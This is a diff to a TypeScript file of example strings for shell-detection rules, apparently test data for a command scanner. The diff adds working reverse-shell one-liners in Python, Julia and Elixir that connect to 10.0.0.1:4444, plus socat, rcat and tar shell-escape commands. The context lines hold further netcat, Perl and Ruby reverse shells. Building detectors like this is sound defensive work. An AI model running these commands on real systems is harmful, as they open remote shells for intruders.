@@ -3,6 +3,9 @@ import type { RuleExamples } from './rule-examples.ts';
 export const SHELLS_EXAMPLES: RuleExamples = {
   'shells.code-socket': {
     fires: [
+      `python -c 'a=__import__;s=a("socket").socket();s.connect(("10.0.0.1",4444));a("subprocess").call(["/bin/sh","-i"],stdin=s)'`,
+      'julia -e \'using Sockets; s=connect("10.0.0.1",4444); while true; write(s, read(`sh -c $(readline(s))`)); end\'',
+      `elixir -e '{:ok,s}=:gen_tcp.connect({10,0,0,1},4444,[]); :os.cmd(~c"sh")'`,
       `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"198.51.100.9:80");STDIN->fdopen($c,r);system$_ while<>;'`,
       'ruby -rsocket -e \'spawn("zsh", in: TCPSocket.new("198.51.100.9", 80))\'',
       'python3 -c \'from socket import *; import os; s=socket(); s.connect(("198.51.100.9",80)); os.dup2(s.fileno(),0); os.system("dash")\'',
@@ -17,6 +20,7 @@ export const SHELLS_EXAMPLES: RuleExamples = {
       'export RHOST=10.0.0.1; python -c \'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")\'',
     ],
     silent: [
+      "julia -e 'using Sockets; println(getipaddr())'",
       "python3 -c 'import socket; print(socket.gethostname())'",
       "ruby -rsocket -e 'puts Socket.gethostname'",
       'ssh -L 8080:localhost:80 host',
@@ -55,6 +59,7 @@ export const SHELLS_EXAMPLES: RuleExamples = {
   },
   'shells.netcat-exec': {
     fires: [
+      'socat stdin exec:/bin/sh',
       'nc -eu /bin/sh 198.51.100.9 80',
       'nc -lvpe 80 /bin/bash',
       'ncat -c zsh 198.51.100.9 80',
@@ -83,6 +88,7 @@ export const SHELLS_EXAMPLES: RuleExamples = {
   },
   'shells.payload-tool': {
     fires: [
+      'rcat connect -s /bin/bash 10.0.0.1 55600',
       'ew -s rssocks -d 198.51.100.9 -e 80',
       'gs-netcat -s x -l -i',
       'netexec smb 198.51.100.0/24',
@@ -110,6 +116,7 @@ export const SHELLS_EXAMPLES: RuleExamples = {
   },
   'shells.escape': {
     fires: [
+      `tar xf /dev/null -I '/bin/sh -c "sh <&2 1>&2"'`,
       'perl -e \'exec "/bin/sh"\'',
       'python3 -c \'import pty; pty.spawn("/bin/bash")\'',
       'awk \'BEGIN {system("/bin/sh")}\'',
